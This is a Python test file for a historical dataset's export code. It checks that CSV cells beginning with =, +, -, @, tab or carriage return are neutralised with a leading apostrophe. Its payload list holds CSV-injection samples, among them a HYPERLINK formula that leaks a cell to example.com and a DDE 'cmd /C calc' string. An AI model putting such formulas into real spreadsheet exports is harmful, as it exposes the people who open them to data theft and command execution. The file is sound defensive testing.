"""CSV cells that a spreadsheet would run as a formula are neutralised (OWASP "CSV injection"):
a string cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a leading ``'`` and quoted.  Numbers stay numbers, and the other formats keep the value."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

import kursk_pows
from factory import DatasetSpec
from kursk_pows.exports import export
from kursk_pows.exports.datapackage import CSV_FORMULAS
from kursk_pows.exports.writers import write_csv, write_jsonl
from kursk_pows.tables.columns import Column, Table

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.com/x?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def _aliases(spec: DatasetSpec, tmp_path: Path) -> kursk_pows.Dataset:
    spec.one("person:soldier-a")["aliases"] = PAYLOADS
    return kursk_pows.load(spec.write(tmp_path / "ds"))


def test_formula_cells_are_quoted_with_an_apostrophe(spec: DatasetSpec, tmp_path: Path) -> None:
    export(_aliases(spec, tmp_path), tmp_path / "out", "csv", "1.0.0")
    data = (tmp_path / "out" / "entity_aliases.csv").read_bytes()
    assert data == (
        b"entity,position,status,alias\r\n"
        b'person:soldier-a,0,active,"\'=1+1"\r\n'
        b'person:soldier-a,1,active,"\'=HYPERLINK(""http://example.com/x?leak=""&A1,""click"")"\r\n'
        b"person:soldier-a,2,active,\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"
        b'person:soldier-a,3,active,"\'+1+1"\r\n'
        b'person:soldier-a,4,active,"\'-1+1"\r\n'
        b'person:soldier-a,5,active,"\'\t=1+1"\r\n'
        b'person:soldier-a,6,active,"\'\r=1+1"\r\n'
    )
    with (tmp_path / "out" / "entity_aliases.csv").open(encoding="utf-8", newline="") as stream:
        read = [row["alias"] for row in csv.DictReader(stream)]
    assert read == ["'" + payload for payload in PAYLOADS]


def test_other_formats_keep_the_exact_value(spec: DatasetSpec, tmp_path: Path) -> None:
    dataset = _aliases(spec, tmp_path)
    export(dataset, tmp_path / "jsonl", "jsonl", "1.0.0")
    lines = (tmp_path / "jsonl" / "entity_aliases.jsonl").read_text(encoding="utf-8")
    assert [json.loads(line)["alias"] for line in lines.splitlines()] == PAYLOADS
    assert [row["alias"] for row in dataset.rows("entity_aliases")] == PAYLOADS


def test_the_site_tables_are_neutralised_too(spec: DatasetSpec, tmp_path: Path) -> None:
    from kursk_pows.site import build_site

    dataset = _aliases(spec, tmp_path)
    build_site(dataset, tmp_path / "site", "1.0.0")
    with (tmp_path / "site" / "data" / "entity_aliases.csv").open(
        encoding="utf-8", newline=""
    ) as stream:
        read = [row["alias"] for row in csv.DictReader(stream)]
    assert read == ["'" + payload for payload in PAYLOADS]


SMALL = Table(
    "small",
    "Two cells: a text and a number.",
    (
        Column("text", "string", "A text.", ("text",), "Small.text"),
        Column("number", "number", "A number.", ("number",), "Small.number"),
    ),
    ("text",),
)


@pytest.mark.parametrize(
    ("text", "number", "line"),
    [
        ("-5", -5, '"\'-5",-5'),
        ("-", -2.5, '"\'-",-2.5'),
        ("ordinary, with a comma", -2.5, '"ordinary, with a comma",-2.5'),
        ('say "hi"', 0, '"say ""hi""",0'),
        ("a -1 inside", None, "a -1 inside,"),
        ("@x", None, '"\'@x",'),
        ("two\nlines", 3, '"two\nlines",3'),
        ("", 7, ",7"),
        (None, -1, ",-1"),
    ],
)
def test_only_string_cells_change(
    tmp_path: Path, text: str | None, number: float | None, line: str
) -> None:
    """A negative number stays a number; other strings are written as before."""
    write_csv(tmp_path / "small.csv", SMALL, [{"text": text, "number": number}])
    assert (tmp_path / "small.csv").read_bytes().decode("utf-8") == f"text,number\r\n{line}\r\n"


def test_the_descriptor_says_so(exported: Path) -> None:
    descriptor = json.loads((exported / "csv" / "datapackage.json").read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        assert resource["dialect"]["description"] == CSV_FORMULAS, resource["name"]


def test_croissant_says_so_for_csv_only(exported: Path) -> None:
    for format in ("csv", "parquet"):
        described = json.loads((exported / format / "croissant.json").read_text(encoding="utf-8"))
        for file in described["distribution"]:
            assert file["description"].endswith(CSV_FORMULAS) == (format == "csv"), file["name"]


def test_csv_and_json_lines_bytes_by_hand(tmp_path: Path) -> None:
    """Every kind of cell, written out here byte by byte: CRLF line ends, booleans in words,
    an empty string and a null both empty (also beside a neutralised formula); JSON Lines keep
    the column order and the exact values."""
    table = Table(
        "t",
        "",
        tuple(
            Column(name, kind, "", (name,), name)
            for name, kind in (
                ("id", "string"),
                ("ok", "boolean"),
                ("n", "integer"),
                ("note", "string"),
            )
        ),
        ("id",),
    )
    rows = [
        {"id": "a", "ok": True, "n": 1, "note": "x, y"},
        {"id": "b", "ok": False, "n": None, "note": ""},
        {"id": "=c", "ok": None, "n": 3, "note": ""},
    ]
    write_csv(tmp_path / "t.csv", table, rows)
    assert (tmp_path / "t.csv").read_bytes() == (
        b'id,ok,n,note\r\na,true,1,"x, y"\r\nb,false,,\r\n"\'=c",,3,\r\n'
    )
    write_jsonl(tmp_path / "t.jsonl", table, rows)
    assert (tmp_path / "t.jsonl").read_bytes() == (
        b'{"id": "a", "ok": true, "n": 1, "note": "x, y"}\n'
        b'{"id": "b", "ok": false, "n": null, "note": ""}\n'
        b'{"id": "=c", "ok": null, "n": 3, "note": ""}\n'
    )
